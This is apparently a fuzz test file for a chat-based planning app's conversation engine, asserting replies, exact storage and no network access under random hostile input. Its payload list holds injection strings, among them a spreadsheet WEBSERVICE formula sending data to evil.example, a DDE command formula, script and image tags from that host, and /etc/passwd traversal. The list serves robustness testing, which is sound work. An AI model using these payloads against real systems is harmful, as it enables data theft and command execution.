/** Ten thousand talks in which nonsense is said, with the real reader of danger: nothing breaks, nothing is lost, nothing is fetched. */
import { lookup } from 'node:dns';
import { get } from 'node:http';
import { connect } from 'node:net';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import type { Asking, Said } from '../../src/conversation/talk.ts';
import { talksOf } from '../../src/conversation/talks.ts';
import type { Fact } from '../../src/plan/facts.ts';
import { fold } from '../../src/plan/fold.ts';
import type { Kept } from '../../src/plan/kept.ts';
import { danger } from '../../src/safety/index.ts';
import { memoryStore } from '../../src/store/memory.ts';
import { hostile } from '../conversation/hostile.ts';
import { places } from '../dialogs/places.ts';
import { after, tools } from '../dialogs/world.ts';
import { type NoNetwork, withoutNetwork } from '../support/no-network.ts';

let network: NoNetwork;
beforeEach(() => {
  network = withoutNetwork();
});
afterEach(() => network.giveBack());

const pieces = (...units: string[]) => fc.string({ unit: fc.constantFrom(...units), maxLength: 60 });
const characters = (from: number, to: number) =>
  fc.integer({ min: from, max: to }).map((one) => String.fromCharCode(one));
const payloads = [
  '<script src="https://evil.example/x.js"></script>',
  '<img src="https://evil.example/x.png">',
  '[a](https://evil.example)',
  '<a href="javascript:alert(1)">',
  '&#60;b&#62;',
  '=WEBSERVICE("https://evil.example/?"&A1)',
  "=cmd|'/c calc'!A1",
  '+1+1',
  '@SUM(A1:A9)',
  '{{constructor}}',
  '$t(goal.what.ask)',
  '../../etc/passwd',
  '__proto__',
];

/** These have a test of their own: in ten thousand talks they would take too long. */
const longest = hostile.filter(({ length }) => length > 2_000);
const nonsense = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.string({ unit: 'grapheme', maxLength: 60 }),
  pieces('😀', '👨‍👩‍👧‍👦', '🏳️‍🌈', '👍🏽', '❤️', ' ', 'ok'),
  pieces('\u202E', '\u202C', '\u200F', '\u200E', '\u061C', '\u2066', '\u2069', '\u200B', 'yes', 'مرحبا', ' '),
  fc.string({ unit: fc.oneof(characters(0, 31), characters(127, 159), characters(97, 122)), maxLength: 60 }),
  fc
    .array(fc.oneof(fc.constantFrom(...payloads), fc.lorem({ maxCount: 3 })), { maxLength: 5 })
    .map((all) => all.join(' ')),
  fc
    .tuple(fc.string({ minLength: 1, maxLength: 12 }), fc.integer({ min: 1, max: 300 }))
    .map(([one, n]) => one.repeat(n)),
  fc.constantFrom(...hostile.filter((text) => !longest.includes(text))),
);

/** What a tampered page may send in place of a tap. */
const tampered = fc
  .tuple(fc.constantFrom('change', 'more', 'option', 'question'), fc.constantFrom(...hostile.slice(-24)))
  .map(([what, id]): Sending => {
    if (what === 'change') return { change: id };
    if (what === 'more') return { more: id };
    return what === 'option' ? { option: id } : { pick: { question: id, options: ['yes'] } };
  });

/** Nonsense, or now and then something that is on offer (a number chooses which), so that the talk goes on. */
const message = fc.oneof(
  { weight: 6, arbitrary: nonsense.map((text): Sending => ({ text })) },
  { weight: 2, arbitrary: fc.nat(99).map((offered): Sending => ({ offered })) },
  { weight: 1, arbitrary: tampered },
);

const plan = 'plan-full-of-nonsense';

type Sending = Pick<Said, 'text' | 'pick' | 'change' | 'more'> & {
  readonly offered?: number;
  readonly option?: string;
};

/** What a channel makes of it at this question. */
function saidAt(asking: Asking | null, { offered, option, ...plain }: Sending): Omit<Said, 'id' | 'channel'> {
  if (offered === undefined && option === undefined) return plain;
  const chosen = option ?? asking?.offer.at((offered ?? 0) % Math.max(1, asking.offer.length))?.id;
  if (asking === null || chosen === undefined) return { command: 'skip' };
  const { question, item } = asking;
  return { pick: { question, options: [chosen], ...(item === undefined ? {} : { item }) } };
}

async function hold(facts: readonly Fact[], messages: readonly Sending[]): Promise<void> {
  const store = memoryStore();
  await store.append(plan, 0, facts);
  let minute = facts.length;
  const talks = talksOf({ store, tools: { ...tools, danger }, now: () => after(minute), nation: 'england' });
  // What is tapped first must have been asked.
  const greeted = await talks.say(plan, { id: 'first', channel: 'webchat', command: 'repeat' });
  let asking = greeted?.talk.asking ?? null;
  for (const [index, message] of messages.entries()) {
    minute += 1;
    const before = await talks.kept(plan);
    const said: Said = { id: `m${index}`, channel: 'webchat', ...saidAt(asking, message) };
    const heard = await talks.say(plan, said);
    expect(heard?.turn.replies.map(({ say }) => say)).not.toEqual([]);
    const stored = await store.read(plan);
    // Nothing is kept of a talk that was declined, or left without saving.
    if (stored === null) {
      expect(['declined', 'paused']).toContain(heard?.talk.state);
      return;
    }
    expect(heard?.turn.replies.filter(({ waits }) => waits)).toHaveLength(1);
    expect(heard?.talk.asking).not.toBeNull();
    expect(fold(stored.facts)).toEqual(await talks.kept(plan));
    if (message.text !== undefined) expectKept(message.text, said.id, stored.facts, before, asking);
    asking = heard?.talk.asking ?? null;
  }
}

/** The words are on record exactly as they came, and no other answer was touched. */
function expectKept(
  words: string,
  id: string,
  facts: readonly Fact[],
  before: Kept | null,
  asked: Asking | null,
): void {
  const turned = facts.filter((fact) => fact.type === 'turned' && fact.id === id);
  expect(turned).toHaveLength(1);
  const elsewhere = facts.some((fact) => fact.type !== 'turned' && 'said' in fact && fact.said === words);
  // At a question about safety, words that are no answer to it are asked again, and kept nowhere.
  const mayBeNull = elsewhere || before?.safety !== null;
  expect(turned[0]).toMatchObject({ said: mayBeNull ? expect.toBeOneOf([words, null]) : words });
  if (changesOthers.has(asked?.question ?? '')) return;
  const { answers } = fold(facts);
  for (const [slot, answer] of Object.entries(before?.answers ?? {})) {
    const isAsked = answer.question === asked?.question && answer.item === asked.item;
    if (!isAsked) expect(answers[slot]).toEqual(answer);
  }
}
/** What is answered here is meant to change an earlier answer, or to have it asked again. */
const changesOthers: ReadonlySet<string> = new Set(['action.suggestion', 'goal.order', 'spend.change', 'check.parts']);

/** Always the same talks; the first one that fails is shown as it is. */
const options = (numRuns: number) => ({ numRuns, seed: 20261122, endOnFailure: true });
const begun = places().map(({ held }) => held.facts);

describe('somebody who says nonsense', { timeout: 480_000 }, () => {
  test('is always asked a next question, and nothing that was said is lost, in ten thousand talks', async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...begun), fc.array(message, { minLength: 1, maxLength: 6 }), hold),
      options(10_000),
    );
    expect(network.asked).toEqual([]);
  });

  test('may say as much as a message holds, at any question', async () => {
    for (const facts of begun) await hold(facts, [{ text: longest[begun.indexOf(facts) % longest.length] ?? '' }]);
    expect(network.asked).toEqual([]);
  });
});

describe('the watch over the network', () => {
  test('notices whatever is fetched, by whichever way', () => {
    expect(() => fetch('http://127.0.0.1:9/')).toThrow();
    expect(() => get('http://127.0.0.1:9/')).toThrow();
    expect(() => connect(9, '127.0.0.1')).toThrow();
    expect(() => lookup('localhost', () => {})).toThrow();
    expect(network.asked).toEqual(['fetch', 'http.get', 'net.connect', 'dns.lookup']);
  });
});
